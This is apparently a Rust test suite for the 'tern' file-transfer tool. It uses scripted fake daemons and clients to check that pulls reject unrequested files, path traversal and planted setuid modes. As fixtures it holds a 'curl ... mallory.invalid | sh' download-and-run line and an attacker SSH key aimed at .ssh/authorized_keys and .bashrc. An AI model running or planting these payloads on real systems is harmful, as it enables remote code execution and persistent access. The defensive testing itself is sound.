//! Hostile peers: a scripted fake daemon (and fake client, see `fake`)
//! that does everything the protocol asks and then announces what a
//! malicious or compromised peer would. Each test shows one attack and
//! what the real end must do about it.
//!
//! Issue 12, item 1 (the class of scp's CVE-2019-6111): a pull receives
//! only what it asked for. Every mode a pull can run in is covered — a
//! daemon (`tern://`), the ssh bootstrap (`tern serve --once` started
//! through `--ssh`, driven through the real `tern` binary with a script in
//! place of ssh) and reverse connect (`-z`, through the binary and through
//! the engine's API).

mod fake;

use std::net::SocketAddr;
use std::path::{Path, PathBuf};
use std::process::Output;
use std::sync::Arc;

use fake::{Answer, FakeClient, FakeDaemon, FileSpec, Session, Setup, tree};
use tern_engine::client::{self, ClientOptions, Endpoint, Outcome};
use tern_engine::client::{Callback, Reach};
use tern_engine::server::{ServerOptions, serve};
use tern_engine::tls::ServerIdentity;
use tern_engine::transfer::Progress;
use tern_engine::{Error, ErrorKind};
use tern_proto::{ErrorCode, Features, Hello, Protect};
use tern_testkit::daemon::tern_bin;
use tern_testkit::files::{content_difference, hashed_bytes};
use tern_testkit::skip::skip;

const KEY: &[u8] =
    b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGhvc3RpbGUgcGVlciBrZXkgZm9yIHRlc3Rz mallory\n";
const RC: &[u8] = b"curl -s http://mallory.invalid/x | sh\n";

fn init_tracing() {
    let _ = tracing_subscriber::fmt()
        .with_env_filter(tracing_subscriber::EnvFilter::from_default_env())
        .with_test_writer()
        .try_init();
}

/// The report a user asked for: a few blocks of 64 KiB.
fn report() -> Vec<u8> {
    hashed_bytes(200_000)
}

/// `path` holds the report.
#[track_caller]
fn assert_report(path: &Path) {
    assert_eq!(content_difference(path, report()), None);
}

/// One step of a script.
#[derive(Debug, Clone)]
enum Step {
    Dir(&'static str),
    File(String, Vec<u8>),
}

fn file(path: &str, data: &[u8]) -> Step {
    Step::File(path.into(), data.to_vec())
}

/// Plays `steps` as an honest sender would (each file announced, checked,
/// sent and confirmed, or given up when the receiver could not take it),
/// then closes; a refusal of the session ends it.
async fn play(mut s: Session, steps: Vec<Step>) -> tern_engine::Result<()> {
    for step in steps {
        match step {
            Step::Dir(p) => s.dir(p, 0o755).await?,
            Step::File(p, data) => {
                let answer = s.send_file(&FileSpec::new(p, data)).await?;
                assert_ne!(answer, Answer::Skipped, "nothing was there to keep");
            }
        }
    }
    s.close().await
}

async fn fake_daemon(steps: Vec<Step>) -> FakeDaemon<()> {
    init_tracing();
    FakeDaemon::start(move |s| play(s, steps)).await
}

async fn pull(
    opts: &ClientOptions,
    d: &FakeDaemon<()>,
    sources: &[&str],
    recursive: bool,
    dest: &Path,
) -> tern_engine::Result<Outcome> {
    let sources = sources.iter().map(|s| (*s).into()).collect();
    let progress = Arc::new(Progress::default());
    client::pull(
        &d.ep,
        opts,
        sources,
        recursive,
        dest.to_path_buf(),
        progress,
    )
    .await
}

/// Pulls from `d` with the options that trust it.
async fn pull_from(
    d: &FakeDaemon<()>,
    sources: &[&str],
    recursive: bool,
    dest: &Path,
) -> tern_engine::Result<Outcome> {
    pull(&d.client_options(), d, sources, recursive, dest).await
}

/// The pull failed with the permission error that names `planted`.
fn assert_refused(result: tern_engine::Result<Outcome>, planted: &str) {
    let e = match result {
        Ok(o) => panic!(
            "the pull succeeded, receiving {:?}",
            o.stats.files.iter().map(|f| &f.path).collect::<Vec<_>>()
        ),
        Err(e) => e,
    };
    assert_eq!(e.kind(), ErrorKind::Permission, "{e}");
    let msg = e.to_string();
    assert!(msg.contains("not requested"), "{msg}");
    assert!(msg.contains(planted), "{msg}");
}

/// The fake was told why, with the permission code.
async fn assert_told(d: FakeDaemon<()>) {
    match d.finished().await {
        Err(Error::Peer {
            code: ErrorCode::PermissionDenied,
            message,
        }) => assert!(message.contains("not requested"), "{message}"),
        other => panic!("the fake daemon was not refused: {other:?}"),
    }
}

/// A single-file pull answered with other names, one attack per session:
/// nothing of them is written, not even a partial file.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_single_file_pull_refuses_every_other_name() {
    let work = tempfile::tempdir().unwrap();
    let outside = work.path().join("outside");
    std::fs::create_dir(&outside).unwrap();
    let absolute = outside.join("planted-by-absolute-path");
    let absolute_s = absolute.to_str().unwrap().to_string();
    let attacks: Vec<(&str, Vec<Step>)> = vec![
        (
            ".ssh",
            vec![Step::Dir(".ssh"), file(".ssh/authorized_keys", KEY)],
        ),
        (
            ".ssh/authorized_keys",
            vec![file(".ssh/authorized_keys", KEY)],
        ),
        (".bashrc", vec![file(".bashrc", RC)]),
        ("../x", vec![file("../x", RC)]),
        (&absolute_s, vec![file(&absolute_s, RC)]),
    ];
    for (i, (planted, steps)) in attacks.into_iter().enumerate() {
        // ../x from home2/ would land in outside/.
        let home = outside.join(format!("home{i}"));
        std::fs::create_dir(&home).unwrap();
        let d = fake_daemon(steps).await;
        let got = pull_from(&d, &["report.pdf"], false, &home).await;
        assert_refused(got, planted);
        assert_told(d).await;
        assert_eq!(tree(&home), Vec::<String>::new(), "attack {i}: {planted}");
    }
    let left: Vec<String> = tree(&outside)
        .into_iter()
        .filter(|p| !p.starts_with("home"))
        .collect();
    assert_eq!(
        left,
        Vec::<String>::new(),
        "nothing beside the destinations"
    );
}

/// The requested file arrives, then another one.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_second_file_after_the_requested_one_is_refused() {
    let work = tempfile::tempdir().unwrap();
    let d = fake_daemon(vec![file("report.pdf", &report()), file(".bashrc", RC)]).await;
    let got = pull_from(&d, &["docs/report.pdf"], false, work.path()).await;
    assert_refused(got, ".bashrc");
    assert_told(d).await;
    assert_eq!(tree(work.path()), ["report.pdf"]);
    assert_report(&work.path().join("report.pdf"));
}

/// The same name twice: the second copy would replace the first.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_requested_file_is_received_once() {
    let work = tempfile::tempdir().unwrap();
    let d = fake_daemon(vec![file("report.pdf", &report()), file("report.pdf", RC)]).await;
    let got = pull_from(&d, &["report.pdf"], false, work.path()).await;
    assert_refused(got, "report.pdf");
    assert_told(d).await;
    assert_report(&work.path().join("report.pdf"));
}

/// A pull without -r cannot receive a directory, even of the requested
/// name, nor anything in it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_directory_in_a_pull_without_r_is_refused() {
    let work = tempfile::tempdir().unwrap();
    for top in ["report.pdf", ".config"] {
        let dest = work.path().join(format!("into-{top}"));
        std::fs::create_dir(&dest).unwrap();
        let inside = format!("{top}/autostart");
        let d = fake_daemon(vec![Step::Dir(top), file(&inside, RC)]).await;
        let got = pull_from(&d, &["report.pdf"], false, &dest).await;
        assert_refused(got, top);
        assert_told(d).await;
        assert_eq!(tree(&dest), Vec::<String>::new(), "{top}");
    }
}

/// A recursive pull of `data` receives `data` and what is in it, and
/// nothing beside it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_recursive_pull_refuses_names_outside_its_top() {
    let work = tempfile::tempdir().unwrap();
    let attacks: Vec<(&str, Vec<Step>)> = vec![
        (".bashrc", vec![file(".bashrc", RC)]),
        (
            ".config",
            vec![Step::Dir(".config"), file(".config/autostart", RC)],
        ),
        ("data2/x", vec![file("data2/x", RC)]),
    ];
    for (i, (planted, extra)) in attacks.into_iter().enumerate() {
        let dest = work.path().join(format!("dest{i}"));
        std::fs::create_dir(&dest).unwrap();
        let mut steps = vec![Step::Dir("data"), file("data/a", &report())];
        steps.extend(extra);
        let d = fake_daemon(steps).await;
        let got = pull_from(&d, &["exp/data/"], true, &dest).await;
        assert_refused(got, planted);
        assert_told(d).await;
        assert_eq!(tree(&dest), ["data/", "data/a"], "{planted}");
    }
}

/// The served root has no name of its own: the server names it, and the
/// client takes that one name and no second.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_pull_of_the_root_takes_one_top_name() {
    let work = tempfile::tempdir().unwrap();
    let steps = vec![
        Step::Dir("srv"),
        file("srv/a", &report()),
        Step::Dir("evil"),
        file("evil/.bashrc", RC),
    ];
    let d = fake_daemon(steps).await;
    let got = pull_from(&d, &[""], true, work.path()).await;
    assert_refused(got, "evil");
    assert_told(d).await;
    assert_eq!(tree(work.path()), ["srv/", "srv/a"]);
}

/// What was asked for arrives, from the same fake: a file by its own name
/// or under the name given as the destination, and a tree.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_honest_fake_is_received() {
    let work = tempfile::tempdir().unwrap();
    let d = fake_daemon(vec![file("report.pdf", &report())]).await;
    let o = pull_from(&d, &["docs/report.pdf"], false, work.path()).await;
    assert_eq!(o.unwrap().stats.files.len(), 1);
    d.finished().await.unwrap();
    assert_report(&work.path().join("report.pdf"));

    let renamed = work.path().join("renamed.pdf");
    let d = fake_daemon(vec![file("report.pdf", b"v2")]).await;
    pull_from(&d, &["report.pdf"], false, &renamed)
        .await
        .unwrap();
    d.finished().await.unwrap();
    assert_eq!(content_difference(&renamed, b"v2"), None);

    let tree_dest = work.path().join("t");
    std::fs::create_dir(&tree_dest).unwrap();
    let steps = vec![
        Step::Dir("data"),
        Step::Dir("data/sub"),
        file("data/sub/b", b"b"),
        file("data/.hidden", b"h"),
        Step::Dir("home"),
        file("home/c", b"c"),
    ];
    let d = fake_daemon(steps).await;
    pull_from(&d, &["data", "~"], true, &tree_dest)
        .await
        .unwrap();
    d.finished().await.unwrap();
    assert_eq!(
        tree(&tree_dest),
        [
            "data/",
            "data/.hidden",
            "data/sub/",
            "data/sub/b",
            "home/",
            "home/c"
        ]
    );
}

/// The harness itself, in every protection mode: the fake daemon's blocks
/// pass the client's checks, and the fake client's pass a real daemon's.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_fakes_speak_every_protection_mode() {
    let work = tempfile::tempdir().unwrap();
    let root = work.path().join("root");
    std::fs::create_dir(&root).unwrap();
    let state = tempfile::tempdir().unwrap();
    let identity = ServerIdentity::load_or_create(state.path()).unwrap();
    let fingerprint = identity.fingerprint.clone();
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let ep = Endpoint {
        host: "127.0.0.1".into(),
        port: listener.local_addr().unwrap().port(),
    };
    let opts = ServerOptions::new(root.clone());
    let daemon = tokio::spawn(async move {
        serve(listener, &identity, opts, std::future::pending())
            .await
            .unwrap();
    });
    for protect in [Protect::Clear, Protect::Safe, Protect::Private] {
        let name = format!("{protect:?}.bin");
        let d = fake_daemon(vec![file(&name, &report())]).await;
        let mut o = d.client_options();
        o.protect = protect;
        pull(&o, &d, &[&name], false, work.path()).await.unwrap();
        d.finished().await.unwrap();
        assert_report(&work.path().join(&name));

        let ask = fake::Ask {
            protect,
            ..fake::Ask::default()
        };
        let mut s = FakeClient::push(&ep, &fingerprint, "", 1, &ask)
            .await
            .unwrap();
        let answer = s.send_file(&FileSpec::new(&name, report())).await.unwrap();
        assert_eq!(answer, Answer::Done);
        s.close().await.unwrap();
        assert_report(&root.join(&name));
    }
    daemon.abort();
}

/// In `private` mode a peer with `AEAD_CHECKS` sends blocks whose check
/// is TLS's; one without it (an older tern) gets XXH3 block checks, and
/// the copy goes through either way.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn private_block_checks_follow_the_peers_features() {
    let all = Hello::ours().features;
    let without = Features(all.0 & !Features::AEAD_CHECKS.0);
    for (features, check) in [(all, "Aead"), (without, "Xxh3")] {
        let work = tempfile::tempdir().unwrap();
        let setup = Setup {
            features,
            ..Setup::default()
        };
        let steps = vec![file("f.bin", &report())];
        init_tracing();
        let d = FakeDaemon::start_with(setup, move |s: Session| {
            let check = format!("{:?}", s.check);
            async move { play(s, steps).await.map(|()| check) }
        })
        .await;
        let mut o = d.client_options();
        o.protect = Protect::Private;
        let progress = Arc::new(Progress::default());
        let sources = vec!["f.bin".into()];
        client::pull(&d.ep, &o, sources, false, work.path().into(), progress)
            .await
            .unwrap();
        assert_eq!(d.finished().await.unwrap(), check);
        assert_report(&work.path().join("f.bin"));
    }
}

/// Reverse mode through the engine: the fake dials the client's callback
/// port for every connection, as `tern serve --once --connect` does.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_reverse_mode_pull_refuses_other_names() {
    init_tracing();
    let work = tempfile::tempdir().unwrap();
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let setup = Setup {
        once: true,
        dial: Some(Box::pin(async move { addr })),
        ..Setup::default()
    };
    let steps = vec![Step::Dir(".ssh"), file(".ssh/authorized_keys", KEY)];
    let d = FakeDaemon::start_with(setup, move |s| play(s, steps)).await;
    let mut o = d.client_options();
    o.reach = Reach::Callback(Arc::new(Callback::new(listener)));
    let got = pull(&o, &d, &["report.pdf"], false, work.path()).await;
    assert_refused(got, ".ssh");
    assert_told(d).await;
    assert_eq!(tree(work.path()), Vec::<String>::new());
}

/// A fake `tern serve --once` playing `steps`, and the program to give
/// `tern cp --ssh` in place of ssh (written in `dir`, see
/// [`fake::fake_ssh`]). With `reverse` it dials, as `--connect` makes a once
/// server do, the port tern asked the fake ssh for.
async fn fake_once(dir: &Path, steps: Vec<Step>, reverse: bool) -> (FakeDaemon<()>, PathBuf) {
    init_tracing();
    let asked = dir.to_path_buf();
    let setup = Setup {
        once: true,
        dial: reverse.then(|| -> fake::Dial {
            Box::pin(async move {
                let port = fake::asked_port(&asked).await;
                SocketAddr::from(([127, 0, 0, 1], port))
            })
        }),
        ..Setup::default()
    };
    let d = FakeDaemon::start_with(setup, move |s| play(s, steps)).await;
    let ssh = fake::fake_ssh(dir, &d.once_line());
    (d, ssh)
}

/// Runs the real `tern cp [-z] --ssh SSH 127.0.0.1:SRC DEST`; `None` when
/// there is no binary to run.
async fn tern_cp(test: &str, ssh: &Path, reverse: bool, src: &str, dest: &str) -> Option<Output> {
    let Some(bin) = tern_bin() else {
        skip(
            test,
            "no tern binary beside this test (cargo build --release -p tern, or TERN_BIN)",
        );
        return None;
    };
    let home = tempfile::tempdir().unwrap();
    let mut cmd = tokio::process::Command::new(bin);
    cmd.arg("cp")
        .args([
            "--retries",
            "0",
            "--io-timeout",
            "30",
            "--ssh-timeout",
            "30",
        ])
        .arg("--ssh")
        .arg(ssh)
        .arg(format!("127.0.0.1:{src}"))
        .arg(dest)
        .env("HOME", home.path())
        .env_remove("TERN_FAULT")
        .kill_on_drop(true);
    if reverse {
        cmd.arg("-z");
    }
    Some(cmd.output().await.unwrap())
}

/// The exit code of the permission class (README, `tern help exit-codes`).
const EXIT_PERMISSION: i32 = 4;

fn assert_cli_refused(out: &Output, planted: &str) {
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(EXIT_PERMISSION), "{stderr}");
    assert!(
        stderr.contains("not requested") && stderr.contains(planted),
        "{stderr}"
    );
}

/// `tern cp HOST:report.pdf DIR/` through the ssh bootstrap (`-z`: with
/// reverse connect): the program given as --ssh prints the fake daemon's
/// once line, and tern connects to it with the token (or waits for it to
/// dial), as it would with `tern serve --once`.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_ssh_bootstrap_pull_refuses_other_names() {
    for reverse in [false, true] {
        let work = tempfile::tempdir().unwrap();
        let dest = work.path().join("home2");
        std::fs::create_dir(&dest).unwrap();
        let steps = vec![
            Step::Dir(".ssh"),
            file(".ssh/authorized_keys", KEY),
            file(".bashrc", RC),
        ];
        let (d, ssh) = fake_once(work.path(), steps, reverse).await;
        let dest_arg = format!("{}/", dest.display());
        let test = "an_ssh_bootstrap_pull_refuses_other_names";
        let Some(out) = tern_cp(test, &ssh, reverse, "report.pdf", &dest_arg).await else {
            return;
        };
        assert_cli_refused(&out, ".ssh");
        assert_told(d).await;
        assert_eq!(tree(&dest), Vec::<String>::new(), "reverse: {reverse}");
    }
}

/// The same fake, honest, through the same paths: the file arrives (so the
/// refusals above are the guard's, not a broken bootstrap).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_ssh_bootstrap_pull_from_an_honest_fake_works() {
    for reverse in [false, true] {
        let work = tempfile::tempdir().unwrap();
        let steps = vec![file("report.pdf", &report())];
        let (d, ssh) = fake_once(work.path(), steps, reverse).await;
        let dest = work.path().join("got.pdf");
        let test = "an_ssh_bootstrap_pull_from_an_honest_fake_works";
        let dest_arg = dest.to_str().unwrap();
        let Some(out) = tern_cp(test, &ssh, reverse, "docs/report.pdf", dest_arg).await else {
            return;
        };
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(out.status.success(), "reverse: {reverse}: {stderr}");
        d.finished().await.unwrap();
        assert_report(&dest);
    }
}

/// Issue 12, item 2: a client allowed to write cannot make a daemon (here
/// running as whoever runs the tests, root in CI) create set-user-ID,
/// set-group-ID or sticky files, whatever modes it announces.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_fake_client_cannot_plant_privileged_files_on_a_daemon() {
    use std::os::unix::fs::PermissionsExt;
    init_tracing();
    let root = tempfile::tempdir().unwrap();
    let state = tempfile::tempdir().unwrap();
    let identity = ServerIdentity::load_or_create(state.path()).unwrap();
    let fingerprint = identity.fingerprint.clone();
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let ep = Endpoint {
        host: "127.0.0.1".into(),
        port: listener.local_addr().unwrap().port(),
    };
    let opts = ServerOptions::new(root.path().to_path_buf());
    let daemon = tokio::spawn(async move {
        serve(listener, &identity, opts, std::future::pending())
            .await
            .unwrap();
    });
    let planted = [("suid", 0o6755, 0o755), ("sticky", 0o1777, 0o777)];
    let mut s = FakeClient::push(&ep, &fingerprint, "", 2, &fake::Ask::default())
        .await
        .unwrap();
    for (name, mode, _) in planted {
        let spec = FileSpec::new(name, b"#!/bin/sh\n".to_vec()).mode(mode);
        assert_eq!(s.send_file(&spec).await.unwrap(), Answer::Done);
    }
    s.close().await.unwrap();
    for (name, _, landed) in planted {
        let mode = std::fs::metadata(root.path().join(name))
            .unwrap()
            .permissions()
            .mode();
        assert_eq!(mode & 0o7777, landed, "{name}: {mode:o}");
    }
    daemon.abort();
}

/// Issue 12, item 2, the other way: a daemon cannot make a pulling client
/// create privileged files.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_fake_daemon_cannot_plant_privileged_files_on_a_client() {
    use std::os::unix::fs::PermissionsExt;
    init_tracing();
    let d = FakeDaemon::start(|mut s: Session| async move {
        let spec = FileSpec::new("report.pdf", report()).mode(0o6755);
        s.send_file(&spec).await?;
        s.close().await
    })
    .await;
    let work = tempfile::tempdir().unwrap();
    pull_from(&d, &["report.pdf"], false, work.path())
        .await
        .unwrap();
    d.finished().await.unwrap();
    let at = work.path().join("report.pdf");
    assert_report(&at);
    let mode = std::fs::metadata(&at).unwrap().permissions().mode();
    assert_eq!(mode & 0o7777, 0o755, "{mode:o}");
}
